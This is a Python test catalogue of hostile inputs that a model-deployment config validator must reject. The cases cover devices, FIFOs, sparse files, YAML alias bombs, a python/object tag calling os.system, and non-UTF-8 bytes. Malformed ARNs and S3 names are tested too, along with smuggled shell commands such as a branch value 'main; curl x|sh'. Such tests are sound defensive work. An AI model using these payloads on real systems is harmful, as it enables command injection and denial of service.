"""The hostile-input catalog: every case is a deployments file (and maybe a config.json or a special file) that
must be refused with exit 2 and one located paragraph, quickly and in bounded memory.

Classes follow issue 10's attack run plus the AWS rules validate now enforces. Each case names the fragments
the error must contain (besides the file name, which every case checks): the field and the reason.
"""
from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[2]
LLAMA = json.loads((REPO / "tests" / "fixtures" / "llama-2-13b-config.json").read_text())
MODEL = "meta-llama/Meta-Llama-3-8B"
KEY = "1234abcd-12ab-34cd-56ef-1234567890ab"
KMS = f"arn:aws:kms:us-east-1:123456789012:key/{KEY}"


class Special:
    """A non-regular or unusual file the case creates: fifo, dir, sparse:<bytes>, symlink:<target>, socket."""

    def __init__(self, kind: str) -> None:
        self.kind = kind


@dataclass(frozen=True)
class Case:
    id: str
    text: Any  # deployments.yaml content: str, bytes or Special (None: not written)
    expect: tuple[str, ...]
    files: dict[str, Any] = field(default_factory=dict)  # other files of the case directory (str, bytes, Special)
    target: Any = "deployments.yaml"  # the path argument (relative to the case directory unless absolute), or a non-path
    argv: tuple[str, ...] = ()  # mode "cli": the selector's arguments ({dir} is the case directory)
    modes: tuple[str, ...] = ("validate", "app")
    names_file: bool = True  # the error must name the target's file name


def one(extra: str = "", model: str = MODEL, name: str = "chat") -> str:
    lines = "".join(f"    {line}\n" for line in extra.splitlines())
    return f"deployments:\n  - name: {name}\n    model: {model}\n{lines}"


def local(extra: str = "") -> str:
    """A hub model described by ./config.json (the case writes it)."""
    return one("model_config: {dir}/config.json\n" + extra, model="example-org/custom-model")


def config(**changes: Any) -> str:
    data = {**LLAMA, **changes}
    return json.dumps({k: v for k, v in data.items() if v is not None})


CASES: list[Case] = []


def case(id: str, text: Any, *expect: str, **kw: Any) -> None:
    CASES.append(Case(id, text, expect, **kw))


# --- A. what the path names: devices, FIFOs, directories, sizes ---------------------------------------------------
case("file-dev-zero", None, "is a character device", target="/dev/zero")
case("file-dev-null", None, "is a character device", target="/dev/null")
case("file-dev-urandom", None, "is a character device", target="/dev/urandom")
case("file-fifo", Special("fifo"), "is a FIFO")
case("file-directory", Special("dir"), "is a directory")
case("file-sparse-2gb", Special(f"sparse:{2 * 1024**3}"), "2,147,483,648 bytes", "524,288 allowed")
case("file-just-over-cap", "# " + "x" * (512 * 1024) + "\n" + one(), "more than the 524,288 allowed")
case("file-symlink-to-dev-zero", Special("symlink:/dev/zero"), "is a character device")
case("file-symlink-to-fifo", Special("symlink:fifo"), "is a FIFO", files={"fifo": Special("fifo")})
case("file-symlink-loop", Special("symlink:deployments.yaml"), "symbolic link loop")
case("file-dangling-symlink", Special("symlink:nowhere.yaml"), "no such file")
case("file-unix-socket", Special("socket"), "deployments file", "cannot be opened")
case("file-proc-environ", None, "a kernel file", target="/proc/self/environ")
case("file-proc-status-symlink", Special("symlink:/proc/self/status"), "a kernel file")
case("config-proc-environ", one("model_config: /proc/self/environ", model="example-org/custom-model"),
     "deployments[chat].model_config", "a kernel file")
case("config-sys-file", one("model_config: /sys/kernel/mm/transparent_hugepage/enabled", model="example-org/custom-model"),
     "deployments[chat].model_config", "a kernel file")
case("file-path-with-nul", None, "NUL character", target="deploy\0ments.yaml", names_file=False)
case("file-path-5000-chars", None, "not a usable path", target="x" * 5000, names_file=False)
case("file-path-empty", None, "not a usable path", target="", names_file=False, modes=("validate",))
case("context-number", None, "deployments file = 5", "must be a path to a file, not int", target=5,
     names_file=False, modes=("app",))
case("context-list", None, "must be a path to a file, not list", target=["a.yaml"], names_file=False, modes=("app",))
case("context-mapping", None, "must be a path to a file, not dict", target={"a": 1}, names_file=False, modes=("app",))
# the same through model_config
case("config-dev-zero", one("model_config: /dev/zero", model="example-org/custom-model"), "deployments[chat].model_config",
     "/dev/zero", "is a character device")
case("config-fifo", local(), "deployments[chat].model_config", "is a FIFO", files={"config.json": Special("fifo")})
case("config-directory", local(), "deployments[chat].model_config", "is a directory",
     files={"config.json": Special("dir")})
case("config-sparse-2gb", local(), "model_config", "2,147,483,648 bytes", files={"config.json": Special(f"sparse:{2 * 1024**3}")})
case("config-symlink-to-dev-zero", local(), "model_config", "is a character device",
     files={"config.json": Special("symlink:/dev/zero")})
case("config-over-cap", local(), "model_config", "more than the 4,194,304 allowed",
     files={"config.json": config(padding="x" * (4 * 1024 * 1024))})

# --- B. bytes that are not clean UTF-8 text -------------------------------------------------------------------------
case("bytes-nul", (one() + "# \0\n").encode(), "control character '\\x00'", ":4:")
case("bytes-invalid-utf8", one().encode() + b"    revision: \xff\xfe\n", "is not UTF-8", ":4:")
case("bytes-utf16-bom", b"\xff\xfe" + one().encode("utf-16-le"), "is UTF-16 encoded")
case("bytes-utf32-bom", b"\x00\x00\xfe\xff" + one().encode("utf-32-be"), "is UTF-32 encoded")
case("bytes-lone-surrogate", one().encode() + b"    revision: \xed\xa0\x80\n", "is not UTF-8")
case("bytes-terminal-escape", one("revision: \x1b[2J\x1b[31mmain"), "control character '\\x1b'")
case("bytes-c1-csi", one("revision: a\x9bb"), "control character '\\x9b'")
case("bytes-del", one("revision: a\x7fb"), "control character '\\x7f'")
case("bytes-form-feed", one() + "\x0c\n", "control character '\\x0c'")
case("bytes-utf8-bom-then-bad", b"\xef\xbb\xbf" + one("max_input_tokens: lots").encode(), "max_input_tokens = 'lots'",
     ":4:")

# --- C. YAML that costs more than it looks -------------------------------------------------------------------------
LAUGHS = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8))
case("yaml-billion-laughs", LAUGHS + one(), "expands (through aliases) to more than 20,000 values")
case("yaml-billion-laughs-in-tags", "x: &x {a: 1, b: 2, c: 3, d: 4, e: 5, f: 6, g: 7, h: 8}\n"
     + "".join(f"x{i}: &x{i} [{', '.join(['*x' + (str(i - 1) if i else '')] * 10)}]\n" for i in range(6)) + one(),
     "expands (through aliases)")
case("yaml-merge-key-bomb", "a: &a {k0: 0, k1: 1}\n" + "".join(
    f"m{i}: &m{i} [{', '.join(['*' + ('a' if i == 0 else f'm{i - 1}')] * 12)}]\n" for i in range(6)) + one(),
     "expands (through aliases)")
case("yaml-many-aliases", "a: &a x\nb: [" + ", ".join(["*a"] * 300) + "]\n" + one(), "more than 200 aliases")
case("yaml-flow-nesting", "[" * 100 + "]" * 100 + "\n", "nested more than 32 levels")
case("yaml-block-nesting", "".join("  " * i + f"k{i}:\n" for i in range(40)) + "  " * 40 + "v\n", "nested more than 32 levels")
case("yaml-mapping-nesting", "a: " + "{a: " * 60 + "1" + "}" * 60 + "\n", "nested more than 32 levels")
case("yaml-recursive-alias", "a: &a [*a]\n" + one(), "recursive alias")
case("yaml-undefined-alias", one("revision: *nowhere"), "is not valid YAML", "undefined alias")
case("yaml-100k-values", "x: [" + ",".join(["1"] * 110_000) + "]\n" + one(), "has more than 20,000 values")
case("yaml-long-line-revision", one("revision: " + "a" * 400_000), "deployments[chat].revision", "at most 255 characters")
case("yaml-long-key", one("k" * 300_000 + ": 1"), "is not valid YAML", "simple key")
case("yaml-python-tag", one("revision: !!python/object/apply:os.system ['true']"), "is not valid YAML", "python")
case("yaml-unknown-tag", one("revision: !vault secret"), "is not valid YAML", "!vault")
case("yaml-two-documents", one() + "---\n" + one(), "is not valid YAML", "single document")
case("yaml-huge-hex-int", one("max_input_tokens: 0x" + "f" * 5000), "max_input_tokens", "-bit number")
case("yaml-huge-decimal", one("instance_count: " + "9" * 4000), "instance_count", "less than or equal to 100")

# --- D. duplicate and non-text keys ---------------------------------------------------------------------------------
case("dup-top-level-deployments", one() + one(name="other"), "appears twice", "lines 1 and 4")
case("dup-key-in-entry", one("revision: main\nrevision: dev"), "deployments[chat].revision", "lines 4 and 5")
case("dup-name-in-entry", one("name: other"), "deployments[other].name", "lines 2 and 4")
case("dup-nested-autoscaling", one("autoscaling: {max: 2, max: 8}"), "autoscaling.max", "appears twice")
case("dup-tags", one("tags:\n  team: a\n  team: b"), "tags.team", "lines 5 and 6")
case("dup-options", one("options: {option.max_rolling_batch_prefill_tokens: 1, option.max_rolling_batch_prefill_tokens: 2}"),
     "options.option.max_rolling_batch_prefill_tokens", "appears twice")
case("dup-defaults", "defaults:\n  region: us-east-1\n  region: eu-west-1\n" + one(), "defaults.region", "lines 2 and 3")
case("key-bool", one("yes: 1"), "read as a true/false", "Quote it")
case("key-null", one("~: 1"), "read as a null")
case("key-float", one("1.5: x"), "read as a number")
case("key-date", one("2024-01-01: x"), "read as a date")
case("key-complex", one("? [a, b]\n: 1"), "a key must be text")
case("key-int-in-tags", one("tags: {1: x}"), "tags[1] = 1", "read as a number")

# --- E. ARNs: wildcards, grammar, partition and region ----------------------------------------------------------------
def kms(value: str, *expect: str, id: str, extra: str = "region: us-east-1") -> None:
    case(id, one(f"kms_key_arn: '{value}'\n{extra}"), "deployments[chat].kms_key_arn", *expect)


kms("arn:aws:kms:us-east-1:123456789012:key/*", "wildcard", id="arn-kms-key-star")
kms("*", "wildcard", id="arn-kms-star")
kms("arn:aws:kms:us-east-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890a?", "wildcard", id="arn-kms-question")
kms("arn:aws:kms:us-east-1:123456789012:key/${aws:username}", "policy variable", id="arn-kms-policy-variable")
kms("arn:aws:kms:us-east-1:123456789012:alias/my-key", "alias ARN", id="arn-kms-alias")
kms(f"arn:aws:kms:eu-west-1:123456789012:key/{KEY}", "key in eu-west-1", "deploys to us-east-1", id="arn-kms-other-region")
kms(KMS, "key in us-east-1", "deploys to eu-west-1", id="arn-kms-region-eu", extra="region: eu-west-1")
kms(f"arn:aws-mars:kms:us-east-1:123456789012:key/{KEY}", "partition", "does not exist", id="arn-kms-bad-partition")
kms(f"arn:aws-cn:kms:us-east-1:123456789012:key/{KEY}", "not a region of the aws-cn partition", id="arn-kms-partition-region")
kms(f"arn:aws:kms:us-east-1:١٢٣٤٥٦٧٨٩٠١٢:key/{KEY}", "non-ASCII", id="arn-kms-arabic-digits")
kms(f"arn:aws:kms:us-east-1:12345678901:key/{KEY}", "not 12 digits", id="arn-kms-short-account")
kms("arn:aws:s3:::my-bucket", "s3", "not kms", id="arn-kms-wrong-service")
kms("arn:aws:kms:us-east-1:123456789012:key/", "does not name a KMS key", id="arn-kms-no-key-id")
kms(f"arn:aws:kms:us-east-1:123456789012:key/{KEY} ", "spaces", id="arn-kms-trailing-space")
kms("arn:aws:kms:us-east-1:123456789012", "not an ARN", id="arn-kms-five-parts")
case("arn-secret-wildcard", one("hf_token_secret_arn: 'arn:aws:secretsmanager:us-east-1:123456789012:secret:*'"),
     "hf_token_secret_arn", "wildcard")
case("arn-secret-wrong-service", one("hf_token_secret_arn: 'arn:aws:ssm:us-east-1:123456789012:parameter/hf'"),
     "hf_token_secret_arn", "not secretsmanager")
case("arn-secret-other-partition", one("region: us-east-1\nhf_token_secret_arn: "
                                       "'arn:aws-cn:secretsmanager:cn-north-1:123456789012:secret:hf'"),
     "aws-cn partition", "us-east-1 is in aws")
case("arn-sns-wildcard", one("alarms: {sns_topic_arn: 'arn:aws:sns:us-east-1:123456789012:*'}"), "alarms.sns_topic_arn",
     "wildcard")
case("arn-sns-bad-topic", one("alarms: {sns_topic_arn: 'arn:aws:sns:us-east-1:123456789012:my topic'}"),
     "alarms.sns_topic_arn", "spaces")

# --- F. S3 URIs and bucket names -------------------------------------------------------------------------------------
def s3_model(uri: str, *expect: str, id: str) -> None:
    case(id, one("model_config: {dir}/config.json", model=f"'{uri}'"), "deployments[chat].model", *expect,
         files={"config.json": config()})


def capture(uri: str, *expect: str, id: str) -> None:
    case(id, one(f"data_capture: {{s3_uri: '{uri}'}}"), "deployments[chat].data_capture.s3_uri", *expect)


s3_model("s3://*/", "wildcard", id="s3-model-star-bucket")
s3_model("s3://my-bucket/*/", "wildcard", id="s3-model-star-prefix")
s3_model("s3://my-bucket/a?/", "wildcard", id="s3-model-question")
s3_model("s3://My-Bucket/llama/", "bucket name S3 does not allow", id="s3-model-uppercase-bucket")
s3_model("s3://my_bucket/llama/", "bucket name S3 does not allow", id="s3-model-underscore-bucket")
s3_model("s3://ab/llama/", "2 characters", id="s3-model-short-bucket")
s3_model("s3://" + "b" * 64 + "/llama/", "64 characters", id="s3-model-long-bucket")
s3_model("s3://192.168.1.1/llama/", "IP address", id="s3-model-ip-bucket")
s3_model("s3://xn--bucket/llama/", "starting with xn--", id="s3-model-xn-bucket")
s3_model("s3://sthree-bucket/llama/", "starting with sthree-", id="s3-model-sthree-bucket")
s3_model("s3://my-bucket-s3alias/llama/", "ending with -s3alias", id="s3-model-s3alias-bucket")
s3_model("s3://my..bucket/llama/", "two dots", id="s3-model-double-dot")
s3_model("s3://-bucket/llama/", "bucket name S3 does not allow", id="s3-model-leading-hyphen")
s3_model("s3://my-bucket//llama/", "empty path segment", id="s3-model-double-slash")
s3_model("s3://my-bucket/ll\\ama/", "backslash", id="s3-model-backslash")
capture("s3://my-bucket/*", "wildcard", id="s3-capture-star")
capture("s3://my-bucket/${aws:username}/", "policy variable", id="s3-capture-policy-variable")
capture("s3://my-bucket/" + "p" * 600, "at most 512", id="s3-capture-over-512")
capture("s3://amzn-s3-demo-bucket/x", "starting with amzn-s3-demo-", id="s3-capture-demo-prefix")
capture("s3://bucket.mrap/x", "ending with .mrap", id="s3-capture-mrap")

# --- G. deploy-time syntax in free text --------------------------------------------------------------------------------
RESOLVE = "{{resolve:ssm:/prod/secret}}"
case("dyn-option-value", one(f"options: {{option.chat_template: '{RESOLVE}'}}"), "options.option.chat_template",
     "dynamic reference")
case("dyn-tag-value", one(f"tags: {{team: '{RESOLVE}'}}"), "tags.team", "dynamic reference")
case("dyn-tag-key", one(f"tags: {{'{RESOLVE}': x}}"), "tags", "dynamic reference")
case("dyn-revision", one(f"revision: '{RESOLVE}'"), "deployments[chat].revision", "dynamic reference")
case("dyn-model-id", one(model=f"'org/{RESOLVE}'"), "deployments[chat].model", "dynamic reference")
case("dyn-model-config", one(f"model_config: '{RESOLVE}'", model="example-org/x"), "model_config", "dynamic reference")
case("dyn-secretsmanager-spaced", one("revision: '{{ resolve : secretsmanager:hf:SecretString:token }}'"),
     "revision", "dynamic reference")
case("dyn-defaults", f"defaults:\n  revision: '{RESOLVE}'\n" + one(), "defaults.revision", "dynamic reference")
case("dyn-backend", one(f"backend: '{RESOLVE}'"), "deployments[chat].backend", "dynamic reference")
case("dyn-families", one(f"families: [g5, '{RESOLVE}']"), "families[1]", "dynamic reference")
case("token-tag-value", one("tags: {team: '${Token[TOKEN.123]}'}"), "tags.team", "CDK token")
case("token-option", one("options: {option.x: '#{Token[LIST.7]}'}"), "options.option.x", "CDK token")
case("token-instance-type", one("instance_type: '${Token[AWS.Region.12]}'"), "instance_type", "CDK token")
case("token-name", one(name="'${Token[X.1]}'"), "name", "CDK token")

# --- H. serving.properties lines -------------------------------------------------------------------------------------
case("props-option-trailing-backslash", one("options: {option.x: 'a\\'}\nmax_input_tokens: 1000"),
     "options", "ends with a backslash")
case("props-option-inner-backslash", one("options: {option.x: 'a\\nb'}"), "options", "contains a backslash")
case("props-revision-trailing-backslash", one("revision: 'main\\'"), "deployments[chat].revision", "backslash")
case("props-revision-space", one("revision: 'main dev'"), "revision", "not a branch, tag or commit")
case("props-option-line-separator", one('options: {option.x: "a\\Lb"}'), "options", "line break")
case("props-option-nel", one('options: {option.x: "a\\Nb"}'), "options", "line break")
case("props-option-carriage-return", one('options: {option.x: "a\\rb"}'), "options", "line break")
case("props-option-non-ascii", one("options: {option.x: 'café'}"), "options", "ISO 8859-1")
case("props-option-infinity", one("options: {option.x: .inf}"), "options", "not a finite number")
case("props-option-nan", one("options: {option.x: .nan}"), "options", "not a finite number")
case("props-model-id-backslash", one(model="'org\\\\model'"), "deployments[chat].model", "Hugging Face model id")
case("props-model-id-double-hyphen", one(model="org/a--b"), "deployments[chat].model", "Hugging Face model id")
# the limit is SageMaker's per environment variable: it binds where options travel as environment (a tarball's
# serving.properties has none; long chat templates are legitimate there)
case("props-option-value-over-1024", one("delivery: environment\noptions: {option.x: '" + "v" * 1025 + "'}"), "options",
     "at most 1024")
case("props-option-key-dotted-env", one("delivery: environment\noptions: {option.a.b: 1}"), "options",
     "OPTION_A.B")
case("props-option-key-huge", one("options: {option." + "k" * 1000 + ": 1}"), "options", "not an LMI serving.properties key")
case("props-too-many-options", one("options: {" + ", ".join(f"option.o{i}: 1" for i in range(51)) + "}"), "options",
     "at most 50")
case("family-item-huge", one("families: [" + "g" * 100_000 + "]"), "families[0]", "at most 32 characters")
case("props-option-huge-hex", one("options: {option.x: 0x" + "f" * 5000 + "}"), "options", "beyond 64 bits")
case("props-model-id-too-long", one(model="org/" + "m" * 100), "deployments[chat].model", "at most 96")

# --- I. tags ----------------------------------------------------------------------------------------------------------
def tags(body: str, *expect: str, id: str) -> None:
    case(id, one("tags:\n" + body), "deployments[chat].tags", *expect)


tags("".join(f"  t{i}: v\n" for i in range(47)), "47 tags plus the 4 this project adds", "AWS allows 50", id="tags-51")
tags("".join(f"  t{i}: v\n" for i in range(60)), "make 64", id="tags-64")
tags("  " + "k" * 129 + ": v\n", "129 characters", id="tags-key-129")
tags("  k: " + "v" * 257 + "\n", "257 characters", id="tags-value-257")
tags("  'AWS:owner': me\n", "aws: prefix is reserved", id="tags-aws-prefix-uppercase")
tags("  'team#1': x\n", "character AWS tags do not allow", id="tags-hash")
tags("  team: '<script>'\n", "character AWS tags do not allow", id="tags-angle-brackets")
tags("  '': x\n", "0 characters", id="tags-empty-key")
tags("  team: '🚀'\n", "character AWS tags do not allow", id="tags-emoji")

# --- J. VPC --------------------------------------------------------------------------------------------------------------
SUBNETS = ", ".join(f"subnet-{i:08x}" for i in range(17))
case("vpc-17-subnets", one(f"vpc: {{subnet_ids: [{SUBNETS}], security_group_ids: [sg-0123abcd]}}"), "vpc.subnet_ids",
     "at most 16")
case("vpc-6-security-groups", one("vpc: {subnet_ids: [subnet-0123abcd], security_group_ids: ["
                                  + ", ".join(f"sg-{i:08x}" for i in range(6)) + "]}"), "vpc.security_group_ids", "at most 5")
case("vpc-duplicate-subnet", one("vpc: {subnet_ids: [subnet-0123abcd, subnet-0123abcd], security_group_ids: [sg-0123abcd]}"),
     "vpc.subnet_ids", "twice")
case("vpc-arabic-digits", one("vpc: {subnet_ids: [subnet-٠١٢٣٤٥٦٧], security_group_ids: [sg-0123abcd]}"), "vpc.subnet_ids",
     "is not a subnet id")
case("vpc-uppercase-hex", one("vpc: {subnet_ids: [subnet-0123ABCD], security_group_ids: [sg-0123abcd]}"), "vpc.subnet_ids",
     "is not a subnet id")

# --- K. numbers AWS bounds ---------------------------------------------------------------------------------------------
case("scale-max-billion", one("autoscaling: {max: 1000000000}"), "autoscaling.max", "less than or equal to 100")
case("scale-max-101", one("autoscaling: {max: 101}"), "autoscaling.max", "less than or equal to 100")
case("scale-target-huge", one("autoscaling: {max: 2, target_invocations_per_instance: 1000000000000}"),
     "target_invocations_per_instance")
case("count-huge", one("instance_count: 1000000000000000000000000000000"), "instance_count")
case("alarm-latency-huge", one("alarms: {latency_p90_ms: 99999999999}"), "alarms.latency_p90_ms")

# --- L. digits and letters that only look ASCII ------------------------------------------------------------------------
case("unicode-account-arabic", one("account: '١٢٣٤٥٦٧٨٩٠١٢'"), "deployments[chat].account", "12-digit")
case("unicode-account-fullwidth", one("account: '１２３４５６７８９０１２'"), "deployments[chat].account", "12-digit")
case("unicode-version-arabic", one("container_version: '٠.٣٢.٠'"), "container_version", "digits 0-9")
case("unicode-region-fullwidth-digit", one("region: us-east-１"), "deployments[chat].region", "not an AWS region")
case("unicode-name-cyrillic", one(name="chаt"), "name", "lowercase letters")
case("unicode-option-key", one("options: {option.mаx: 1}"), "options", "not an LMI serving.properties key")

# --- M. pipeline --------------------------------------------------------------------------------------------------------
PIPE = ("pipeline:\n  account: '123456789012'\n  region: {region}\n  repository: acme/llm\n  branch: {branch}\n"
        "  connection_arn: '{conn}'\n  stages:\n    - {{name: Prod, account: '210987654321', region: {stage}}}\n")
CONN = "arn:aws:codeconnections:us-east-1:123456789012:connection/" + KEY


def pipe(id: str, *expect: str, region: str = "us-east-1", branch: str = "main", conn: str = CONN,
         stage: str = "us-west-2", extra: str = "") -> None:
    case(id, one(extra) + PIPE.format(region=region, branch=branch, conn=conn, stage=stage), *expect)


pipe("pipeline-region-unknown", "pipeline.region", "not an AWS region", region="mars-west-1")
pipe("pipeline-region-arabic-digit", "pipeline.region", "not an AWS region", region="us-east-١")
pipe("pipeline-stage-region", "pipeline.stages[0].region", "not an AWS region", stage="'us-west-2;rm'")
pipe("pipeline-branch-dotdot", "pipeline.branch", "not a branch name", branch="'a..b'")
pipe("pipeline-branch-shell", "pipeline.branch", "not a branch name", branch="'main; curl x|sh'")
pipe("pipeline-connection-wildcard", "pipeline.connection_arn", "wildcard",
     conn="arn:aws:codeconnections:us-east-1:123456789012:connection/*")
pipe("pipeline-kms-stage-region", "kms_key_arn", "in pipeline stage Prod", "deploys to us-west-2",
     extra=f"kms_key_arn: '{KMS}'\nregion: us-east-1")

# --- N. local config.json contents ---------------------------------------------------------------------------------------
def cfg(id: str, content: Any, *expect: str) -> None:
    case(id, local(), "deployments[chat].model", "config.json", *expect, files={"config.json": content})


cfg("json-zero-kv-heads", config(num_key_value_heads=0), "at least one key/value head")
cfg("json-awq-3-bit", config(quantization_config={"quant_method": "awq", "bits": 3, "group_size": 128}), "only 4-bit")
cfg("json-gptq-5-bit", config(quantization_config={"quant_method": "gptq", "bits": 5, "group_size": 128}), "2, 3, 4, 8-bit")
cfg("json-one-token-context", config(max_position_embeddings=1), "cannot hold a prompt")
cfg("json-nan", config().replace('"vocab_size": 32000', '"vocab_size": NaN'), "NaN is not JSON")
cfg("json-infinity", config().replace('"vocab_size": 32000', '"vocab_size": -Infinity'), "-Infinity is not JSON")
cfg("json-duplicate-key", config()[:-1] + ', "vocab_size": 1}', "appears twice")
cfg("json-nested-40", json.dumps({**LLAMA, "x": json.loads("[" * 40 + "]" * 40)}), "nested more than 32 levels")
cfg("json-invalid-utf8", config().encode().replace(b"llama", b"ll\xffma"), "is not UTF-8")
cfg("json-utf16", b"\xff\xfe" + config().encode("utf-16-le"), "is UTF-16 encoded")
cfg("json-string", '"LlamaForCausalLM"', "is not a JSON object")
cfg("json-nul", config().replace("llama", "lla\\u0000ma").replace("\\u0000", "\0"), "control character")

# --- O. names and long values --------------------------------------------------------------------------------------------
case("name-5000-chars", one(name="a" * 5000), "name", "at most 63 characters", "(5000 characters)")
case("name-newline-escape", one(name='"chat\\nx"'), "name", "lowercase letters")
case("endpoints-over-200", "deployments:\n" + "".join(
    f"  - {{name: e{i}, model: {MODEL}, traffic: [even, uneven]}}\n" for i in range(101)), "deployments",
     "202 endpoints", "at most 200")
case("unknown-key-huge-value", one("colour: " + "z" * 200_000), "unknown key", "(200000 characters)")


# --- P. the same boundary through `plan` and `render` (no deployments file) ------------------------------------------------
def cli(id: str, argv: tuple[str, ...], *expect: str, files: dict | None = None) -> None:
    case(id, None, *expect, argv=argv, files=files or {}, modes=("cli",), names_file=False)


PLAN = ("plan", "--model", "example-org/custom-model", "--model-config")
cli("cli-plan-config-dev-zero", (*PLAN, "/dev/zero"), "model_config", "is a character device")
cli("cli-plan-config-fifo", (*PLAN, "{dir}/config.json"), "model_config", "is a FIFO", files={"config.json": Special("fifo")})
cli("cli-plan-config-sparse", (*PLAN, "{dir}/config.json"), "model_config", "2,147,483,648 bytes",
    files={"config.json": Special(f"sparse:{2 * 1024**3}")})
cli("cli-plan-config-directory", (*PLAN, "{dir}"), "model_config", "is a directory")
cli("cli-plan-config-zero-kv", (*PLAN, "{dir}/config.json"), "num_key_value_heads", "at least one key/value head",
    files={"config.json": config(num_key_value_heads=0)})
cli("cli-render-revision-backslash", ("render", "--model", MODEL, "--revision", "main\\"), "revision", "backslash")
cli("cli-render-revision-resolve", ("render", "--model", MODEL, "--revision", "{{resolve:ssm:x}}"), "revision",
    "dynamic reference")
cli("cli-render-revision-line-break", ("render", "--model", MODEL, "--revision", "main\noption.x=1"), "revision",
    "line break")

assert len(CASES) >= 100, len(CASES)
assert len({c.id for c in CASES}) == len(CASES), "case ids must be unique"
